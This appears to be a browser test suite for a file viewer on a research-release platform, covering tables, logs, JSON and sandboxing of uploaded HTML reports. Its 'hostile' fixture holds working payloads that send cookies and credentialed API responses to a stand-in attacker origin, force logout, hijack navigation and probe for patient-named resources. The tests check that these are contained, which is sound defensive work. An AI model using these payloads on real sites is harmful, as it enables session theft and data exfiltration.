// Released files, looked at: their list, each kind of file, a report that means harm, and files inside a backend.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { checker, files, inside, listen, project, release, workspace } from "./releasing.mjs";
import { base, look, person, start, stop } from "./site.mjs";

let address;

before(async () => {
  await start();
  address = await release("viewer-kinds", files);
});
after(stop);

const open = (page, name) => page.goto(`${address}${name}`);

test("the list goes by keys and by its filter, and each page looks well", async () => {
  const who = await person({ username: checker });
  const { page } = who;
  await page.goto(address);
  await look(page, "outputs-release");
  const rows = page.locator("[data-tree] .tree-row:visible");
  assert.equal(await rows.count(), 8, "the overview and seven files");
  await page.getByLabel("Filter the files").fill("tab csv");
  assert.deepEqual(await rows.locator(".tree-name").allTextContents(), ["Overview", "uptake.csv"]);
  assert.equal(await page.locator("[data-filter-count]").textContent(), "1 of 7 files");
  await page.getByLabel("Filter the files").press("Escape");
  assert.equal(await rows.count(), 8);
  await page.getByLabel("Filter the files").press("ArrowDown");
  const focused = () => page.evaluate(() => document.activeElement.querySelector(".tree-name")?.textContent);
  assert.equal(await focused(), "Overview");
  await page.keyboard.press("ArrowDown");
  assert.equal(await focused(), "logs");
  await page.keyboard.press("ArrowLeft");
  await page.keyboard.press("ArrowDown");
  assert.equal(await focused(), "plots", "what is folded is passed over");
  await page.keyboard.press("ArrowRight");
  await page.keyboard.press("End");
  assert.equal(await focused(), "report.html");
  await page.keyboard.press("Enter");
  await page.waitForURL(`**${address}output/report.html#file-title`);
  assert.equal(await focused(), "report.html", "whoever goes by keys goes on from there");
  assert.equal(await page.frameLocator("iframe").getByRole("heading").textContent(), "Report");
  await look(page, "outputs-report");
  await who.leave();
});

test("a table scrolls and sorts, a text is searched, JSON folds", async () => {
  const who = await person({ username: checker });
  const { page } = who;
  await open(page, "output/tables/uptake.csv");
  const sheet = page.locator("[data-sheet]");
  await page.locator(".sheet-live").waitFor();
  await look(page, "outputs-table");
  assert.equal(await page.locator("[data-sheet-about]").textContent(), "250 rows below the first, 4 columns. Choose a column's name to sort by it.");
  assert.ok((await sheet.locator("tbody tr").count()) < 100, "only what is in sight is drawn");
  await sheet.evaluate((element) => element.scrollTo(0, element.scrollHeight));
  await sheet.getByRole("rowheader", { name: "250", exact: true }).waitFor();
  await sheet.getByRole("button", { name: "practice" }).click();
  await sheet.getByRole("button", { name: "practice" }).click();
  assert.equal(await sheet.locator("tbody tr:not([hidden]) td").first().textContent(), String(249 * 7));
  assert.equal(await sheet.getByRole("columnheader", { name: "practice" }).getAttribute("aria-sort"), "descending");

  await open(page, "output/logs/model.log");
  await page.getByLabel("Search in this file").fill("warning");
  await page.getByText("1 of 10", { exact: true }).waitFor();
  await page.getByRole("button", { name: "Previous" }).click();
  await page.getByText("10 of 10", { exact: true }).waitFor();
  assert.equal(await page.locator("mark[data-current]").textContent(), "WARNING");
  await look(page, "outputs-log");

  await open(page, "output/model.json");
  await look(page, "outputs-json");
  assert.equal(await page.locator(".json details[open]").count(), 2, "the first levels");
  await page.getByLabel("Search in this file").fill("sex");
  await page.getByText("1 of 1", { exact: true }).waitFor();
  assert.equal(await page.locator("mark[data-current]").isVisible(), true, "it is unfolded");
  for (const [name, picture] of [["plots/rates.svg", "image"], ["model.feather", "none"]]) {
    await open(page, `output/${name}`);
    await look(page, `outputs-${picture}`);
  }
  await who.leave();
});

test("all of a long log is searched", async () => {
  const lines = Array.from({ length: 40_000 }, (_, n) => `${n} all is well with the model`);
  const long = await release("viewer-log", { "long.log": `${lines.join("\n")}\nthe needle\n` });
  const who = await person({ username: checker });
  await who.page.goto(`${long}long.log`);
  await who.page.getByLabel("Search in this file").fill("NEEDLE");
  await who.page.getByText("1 of 1", { exact: true }).waitFor();
  const mark = who.page.locator("mark[data-current]");
  assert.ok(await mark.evaluate((found) => found.closest(".file-text").getBoundingClientRect().bottom >= found.getBoundingClientRect().bottom));
  assert.equal(await who.page.locator(".file-note").count(), 0);
  await look(who.page, "outputs-long-log");
  await who.leave();
  const plain = await person({ username: checker, javaScript: false });
  await plain.page.goto(`${long}long.log`);
  await plain.page.getByText("These are the first 256 KB of it.").waitFor();
  await plain.leave();
});

test("a table of 100,000 rows is there soon and stays smooth", async () => {
  const rows = Array.from({ length: 100_000 }, (_, n) => `${n},patient ${n},${n % 97}`).join("\n");
  const long = await release("viewer-long", { "long.csv": `id,name,n\n${rows}\n` });
  const who = await person({ username: checker });
  const { page } = who;
  await page.goto(`${long}long.csv`);
  await page.locator(".sheet-live").waitFor();
  const slowest = await page.locator("[data-sheet]").evaluate(async (sheet) => {
    const frame = () => new Promise((resolve) => requestAnimationFrame(resolve));
    let worst = 0;
    for (let step = 1; step <= 40; step += 1) {
      const begin = performance.now();
      sheet.scrollTop = (sheet.scrollHeight * step) / 40;
      await frame();
      await frame();
      worst = Math.max(worst, performance.now() - begin);
    }
    return worst;
  });
  console.log(`the slowest of 40 jumps through 100,000 rows took ${slowest.toFixed(0)} ms`);
  assert.ok(slowest < 1000, `${slowest} ms`);
  await page.getByRole("rowheader", { name: "100,000", exact: true }).waitFor();
  await who.leave();
});

test("without scripts all of it is there, page by page", async () => {
  const who = await person({ username: checker, javaScript: false });
  const { page } = who;
  await open(page, "output/tables/uptake.csv?page=3");
  assert.equal(await page.locator(".sheet tbody tr").count(), 50);
  await open(page, "output/model.json");
  assert.match(await page.locator("pre").textContent(), /"hr": 1.1/);
  await who.leave();
});

// What a report could try: to run, to call us as whoever looks at it, to call somebody else, to take the page away.
const hostile = (attacker) => `<!doctype html><base target="_top">
<meta http-equiv="refresh" content="0;url=${attacker}/refreshed">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="${attacker}/style.css"><link rel="prefetch" href="${attacker}/prefetched">
<link rel="preconnect" href="${attacker}"><link rel="dns-prefetch" href="${attacker}"><link rel="preload" as="image" href="${attacker}/preloaded">
<template shadowrootmode="open"><link rel="preconnect" href="${attacker}"><img src="${attacker}/shadow"></template>
<link rel="stylesheet" href="${base}/patient-1.css"><link rel="icon" href="${base}/patient-2.png">
<style>@font-face { font-family: taken; src: url(${base}/patient-3.woff2) } p { font-family: taken; background: url(${base}/patient-4) }</style>
<img src="${base}/patient-5"><img src="/patient-6"><img srcset="${base}/static/patient-7 2x"><video src="${base}/patient-8"></video>
<svg><image href="${base}/patient-9"/></svg><img src="https://avatars.githubusercontent.com/u/1?patient-10">
<style>@import "${attacker}/imported.css"; body { background: url(${attacker}/background) }</style>
<script>
  const tell = (what) => new Image().src = "${attacker}/ran?" + encodeURIComponent(what);
  tell("script");
  try { tell(document.cookie) } catch (error) { tell(error) }
  try { parent.document.title = "taken"; top.location = "${attacker}/top" } catch (error) { tell(error) }
  parent.postMessage("taken", "*");
  fetch("${base}/api/v2/releases/workspace/${workspace}", { credentials: "include" }).then((a) => a.text()).then(tell);
  fetch("${base}/logout/", { method: "POST", credentials: "include", mode: "no-cors" });
  open("${attacker}/opened");
</script>
<body onload="location='${attacker}/onload'">
<img src="${attacker}/picture"><img src=x onerror="location='${attacker}/onerror'">
<img src="${base}/logout/"><iframe src="${attacker}/framed"></iframe><iframe srcdoc="<script>parent.tell(1)</script>"></iframe>
<object data="${attacker}/object"></object><embed src="${attacker}/embedded"><video src="${attacker}/video"></video>
<svg onload="location='${attacker}/svg'"><use href="${attacker}/used#a"/></svg>
<form action="${base}/logout/" method="post" target="_top"><button id="send">Send</button><input autofocus onfocus="this.form.submit()"></form>
<p><a id="away" href="${attacker}/followed">Away</a> <a id="new" target="_blank" href="${attacker}/new">New</a>
<a id="ours" href="${base}/settings/">Ours</a> <a id="script" href="javascript:top.location='${attacker}/javascript'">Script</a></p><h1>Harmless</h1>`;

test("a report that means harm stays in its box", async () => {
  const attacker = await listen(() => ({ body: "ours now" }));
  const page_of = await release("viewer-hostile", { "report.html": hostile(attacker.origin), "other.txt": "x" });
  const who = await person({ username: checker, silent: true });
  const { page } = who;
  const asked = [];
  // What the policy stops is a request to the browser too; what was answered went through.
  page.context().on("response", (response) => asked.push(response.url()));
  const messages = [];
  await page.exposeFunction("heard", (data) => messages.push(data));
  await page.addInitScript(() => {
    if (window === top) addEventListener("message", (event) => globalThis.heard(String(event.data)));
  });
  const report = `${page_of}report.html`;
  await page.goto(report);
  const frame = page.frameLocator("iframe");
  await frame.getByRole("heading", { name: "Harmless" }).waitFor();
  // A click does no more than what it does by itself.
  for (const id of ["#send", "#new", "#script", "#ours"]) {
    await frame.locator(id).click({ timeout: 5000, noWaitAfter: true }).catch(() => {});
  }
  await page.waitForTimeout(1000);
  assert.equal(new URL(page.url()).pathname, report);
  assert.notEqual(await page.title(), "taken");
  assert.deepEqual(messages, []);
  assert.equal(page.context().pages().length, 1, "nothing was opened");
  assert.deepEqual(attacker.asked, []);
  const ours = ["/logout/", "/workspace/", "/settings/", "patient"];
  assert.deepEqual(asked.filter((url) => ours.some((part) => url.includes(part))), []);
  await page.goto(report);
  await frame.locator("#away").click({ timeout: 5000, noWaitAfter: true });
  await page.waitForTimeout(300);
  assert.deepEqual(attacker.asked, []);
  // Opened by itself it is as harmless.
  const raw = await page.locator("[data-file]").getAttribute("data-raw");
  await page.goto(raw);
  await page.waitForTimeout(1000);
  assert.equal(new URL(page.url()).pathname, raw);
  await page.locator("#send").click({ noWaitAfter: true });
  await page.waitForTimeout(500);
  assert.deepEqual(attacker.asked, []);
  await page.goto("/settings/");
  assert.equal(new URL(page.url()).pathname, "/settings/", "still signed in");
  attacker.close();
  await who.leave();
});

test("files inside a backend are fetched by the browser", async () => {
  const attacker = await listen(() => ({ body: "" }));
  const server = await inside("viewer-inside", {
    ...files,
    "output/hostile.html": hostile(attacker.origin),
    "output/long.html": "<!DOCTYPE html><a href='#end'>To the end</a><div style='height:5000px'></div><h2 id=end>End</h2>",
    "output/empty.txt": "",
    "output/empty.csv": "",
    "output/broken.png": "no picture",
    "output/paper.pdf": "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 0/Kids[]>>endobj\ntrailer<</Root 1 0 R>>",
  });
  const of = `/${project}/${workspace}/files/viewer-inside/`;
  const who = await person({ username: checker, silent: true });
  const { page } = who;
  await page.goto(of);
  await page.getByRole("heading", { name: "Choose a file" }).waitFor();
  await look(page, "outputs-inside");
  await page.getByRole("link", { name: /uptake.csv/ }).click();
  await page.getByText("250 rows below the first, 4 columns").waitFor();
  await look(page, "outputs-inside-table");
  await page.goto(`${of}output/logs/model.log`);
  await page.getByLabel("Search in this file").fill("warning");
  await page.getByText("1 of 10", { exact: true }).waitFor();
  await page.goto(`${of}output/model.feather`);
  const saved = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download" }).click();
  assert.equal((await saved).suggestedFilename(), "model.feather");
  await page.goto(`${of}output/plots/rates.svg`);
  await page.waitForFunction(() => document.querySelector(".file-image img")?.naturalWidth === 480);
  await page.goto(`${of}output/report.html`);
  const heading = page.frameLocator("iframe").getByRole("heading", { name: "Report" });
  assert.equal(await heading.evaluate((element) => getComputedStyle(element).color), "rgb(0, 0, 128)");
  // What a report holds has not been checked: nothing of it may leave, neither to others nor to us.
  const answered = [];
  page.context().on("response", (response) => answered.push(response.url()));
  const framed = page.frameLocator("iframe");
  for (const id of ["#send", "#away", "#new", "#script", "#ours"]) {
    await page.goto(`${of}output/hostile.html`);
    await framed.getByRole("heading", { name: "Harmless" }).waitFor();
    await framed.locator(id).click({ timeout: 5000, noWaitAfter: true });
    await page.waitForTimeout(300);
    assert.equal(new URL(page.url()).pathname, `${of}output/hostile.html`, id);
  }
  assert.deepEqual(attacker.asked, []);
  // Nor is anybody called on without a word, which browsers do ahead of a click.
  assert.equal(attacker.connections(), 0);
  const ours = ["patient", "/settings/", "/logout/"];
  assert.deepEqual(answered.filter((url) => ours.some((part) => url.includes(part))), []);
  assert.equal(page.context().pages().length, 1, "nothing was opened");
  // A table of contents leads within it.
  await page.goto(`${of}output/long.html`);
  await framed.getByRole("link", { name: "To the end" }).click();
  await page.waitForTimeout(300);
  assert.ok((await framed.locator("#end").evaluate((element) => element.getBoundingClientRect().top)) < 900);
  assert.equal(await framed.locator("#end").evaluate(() => document.compatMode), "CSS1Compat", "its doctype counts");
  for (const name of ["empty.txt", "empty.csv"]) {
    await page.goto(`${of}output/${name}`);
    await page.getByText("This file is empty").waitFor();
    await page.getByText("0 bytes", { exact: true }).first().waitFor();
  }
  await page.goto(`${of}output/broken.png`);
  await page.getByText("This picture cannot be shown").waitFor();
  await page.goto(`${of}output/paper.pdf`);
  await page.locator("iframe[src^='blob:']").waitFor();
  await page.goto(`${of}output/none.txt`);
  await page.getByRole("heading", { name: "There is no such file" }).waitFor();
  // Something else answers in the backend's place.
  for (const body of ["<h1>Sign in to the network</h1>", "{}", '{"files": [{}]}']) {
    await page.route(/\/current$/, (route) => route.fulfill({ body, headers: { "Access-Control-Allow-Origin": base } }));
    await page.goto(of);
    await page.getByRole("heading", { name: "The backend's answer makes no sense" }).waitFor();
    await page.unroute(/\/current$/);
  }
  server.close();
  await page.goto(of);
  await page.getByRole("heading", { name: "The backend cannot be reached" }).waitFor();
  attacker.close();
  await who.leave();
});

test("a wide table tells its width, and a long value is shown whole", async () => {
  const long = "word ".repeat(100).trim();
  const head = Array.from({ length: 300 }, (_, n) => `c${n}`);
  const row = head.map((_, n) => (n === 0 ? long : n === 1 ? '"two\nlines"' : n));
  const wide = await release("viewer-wide", { "wide.csv": `${head}\n${row}\n`, "other.txt": "x" });
  const who = await person({ username: checker });
  const { page } = who;
  await page.goto(`${wide}wide.csv`);
  await page.getByText("1 row below the first, 300 columns, of which the first 200 are shown.").waitFor();
  const cells = page.locator(".sheet-live tbody tr:not([hidden]) td");
  assert.match(await cells.first().textContent(), /^word .*…$/);
  assert.equal(await cells.nth(1).textContent(), "two ⏎ lines");
  await cells.first().getByRole("button").focus();
  await page.keyboard.press("Enter");
  await page.getByText("Row 1, c0").waitFor();
  assert.equal(await page.locator(".sheet-value pre").textContent(), long);
  await look(page, "outputs-value");
  await cells.nth(1).getByRole("button").click();
  await page.getByText("Row 1, c1").waitFor();
  assert.equal(await page.locator(".sheet-value pre").textContent(), "two\nlines");
  await page.getByRole("button", { name: "Close" }).click();
  assert.equal(await page.locator(".sheet-value pre").count(), 0);
  await who.leave();
});

test("a filter stays, and on a narrow screen a file comes first", async () => {
  const who = await person({ username: checker });
  const { page } = who;
  await page.goto(address);
  await page.getByLabel("Filter the files").fill("uptake");
  await page.locator("[data-tree] .tree-row:visible").last().click();
  await page.waitForURL("**/uptake.csv?filter=uptake#file-title");
  assert.equal(await page.getByLabel("Filter the files").inputValue(), "uptake");
  assert.equal(await page.evaluate(() => scrollY), 0, "nothing moves on a wide screen");
  await page.goBack();
  assert.equal(await page.getByLabel("Filter the files").inputValue(), "uptake");
  await page.setViewportSize({ width: 360, height: 700 });
  await page.goto(address);
  await page.getByRole("link", { name: /report.html/ }).click();
  await page.waitForURL("**/report.html#file-title");
  await page.frameLocator("iframe").getByRole("heading", { name: "Report" }).waitFor();
  assert.ok((await page.locator("#file-title").boundingBox()).y < 200);
  await who.leave();
});

test("a long list is filtered by the server", async () => {
  const many = Object.fromEntries(Array.from({ length: 1001 }, (_, n) => [`part-${n % 3}/file-${n}.txt`, String(n)]));
  const long = await release("viewer-many", many);
  const who = await person({ username: checker });
  const { page } = who;
  await page.goto(long);
  await page.getByLabel("Filter the files").fill("part-2 99");
  await page.getByText("6 of 1,001 files").waitFor();
  await page.getByRole("link", { name: "part-2/file-995.txt" }).click();
  await page.waitForURL("**/file-995.txt?filter=part-2+99#file-title");
  await page.getByText("6 of 1,001 files").waitFor();
  assert.equal(await page.locator("[data-text]").textContent(), "995");
  await page.getByLabel("Filter the files").fill("");
  await page.locator("a.tree-folder").first().waitFor();
  await who.leave();
});
